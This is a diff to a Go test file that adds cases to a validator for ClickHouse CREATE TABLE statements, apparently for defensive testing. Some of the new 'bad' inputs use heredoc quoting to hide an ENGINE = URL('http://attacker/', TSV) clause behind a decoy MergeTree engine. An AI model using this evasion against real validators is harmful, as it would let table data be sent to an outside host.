@@ -33,6 +33,10 @@ func TestCheckCreate(t *testing.T) {
 		"unbalanced parentheses":    "CREATE TABLE guardian.zz (`p` String)) ENGINE = MergeTree ORDER BY p",
 		"an escaped quote hides":    `CREATE TABLE guardian.zz (` + "`p`" + ` String DEFAULT 'a\'') ENGINE = URL('http://a/', TSV) --'`,
 		"engine in the column list": "CREATE TABLE guardian.zz (`p` String, ENGINE = MergeTree) ENGINE = URL('http://a/', TSV)",
+		// In a heredoc ClickHouse reads a quote as text; read as a quote,
+		// it would hide the real engine and show a made-up one.
+		"a heredoc hides the engine": "CREATE TABLE guardian.zz (`p` String COMMENT $$'$$) ENGINE = URL('http://attacker/', TSV) COMMENT $$' ) ENGINE = MergeTree ORDER BY p $$",
+		"a tagged heredoc":           "CREATE TABLE guardian.zz (`p` String COMMENT $x$'$x$) ENGINE = URL('http://attacker/', TSV) COMMENT $x$' ) ENGINE = MergeTree ORDER BY p $x$",
 	}
 	for name, s := range bad {
 		if err := checkCreate(s); err == nil {
@@ -46,6 +50,7 @@ func TestCheckCreate(t *testing.T) {
 func FuzzCheckCreate(f *testing.F) {
 	f.Add("CREATE TABLE guardian.t (`x` UInt64) ENGINE = MergeTree ORDER BY x")
 	f.Add("CREATE TABLE guardian.zz ENGINE = URL('http://a/', TSV) AS SELECT 1")
+	f.Add("CREATE TABLE guardian.zz (`p` String COMMENT $$'$$) ENGINE = URL('http://a/', TSV) COMMENT $$' ) ENGINE = MergeTree ORDER BY p $$")
 	f.Fuzz(func(t *testing.T, s string) {
 		if checkCreate(s) != nil {
 			return
